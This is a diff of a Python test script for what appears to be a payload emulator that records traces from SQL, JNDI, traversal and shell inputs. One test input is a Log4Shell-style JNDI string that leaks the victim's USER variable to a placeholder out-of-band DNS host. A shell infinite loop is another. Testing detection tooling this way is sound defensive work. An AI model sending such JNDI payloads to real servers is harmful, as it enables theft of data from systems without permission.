@@ -202,7 +202,7 @@ def main():
         _, sql, _ = emulate(fragment, language='sql-mysql')
         check(f'{fragment}: {truth}', [t['pattern'] for t in traces(sql, 'truth')] == [truth], sql['traces'])
     _, sql, _ = emulate('2 or 4 buttons', language='sql-mysql')
-    check('ordinary text leaves nothing', sql['traces'] == [], sql['traces'])
+    check('ordinary text leaves nothing but what the database says as it rejects it', all(t['kind'] == 'error' for t in sql['traces']), sql['traces'])
     _, jndi, _ = emulate('${jndi:dns://x.example/${env:USER}.k7q2x.oast.example}', language='auto')
     check('a name with a part of the victim is a pattern',
           any(re.fullmatch(t['pattern'], 'tomcat.k7q2x.oast.example') for t in traces(jndi, 'dns')), jndi['traces'])
@@ -211,9 +211,9 @@ def main():
     validate(path)
     check('a traversal shows the file', traces(path, 'text') and not any(t['must_show'] for t in path['traces']))
 
-    code, nothing, said = emulate('body', language='html')
+    code, nothing, said = emulate('body', language='url')
     validate(nothing)
-    check('what nothing here runs is said', code == 1 and nothing['stopped_by'] == 'unsupported' and 'html' in said)
+    check('what nothing here runs is said', code == 1 and nothing['stopped_by'] == 'unsupported' and 'runs url' in said, said)
 
     code, endless, _ = emulate('while :; do :; done')
     validate(endless)
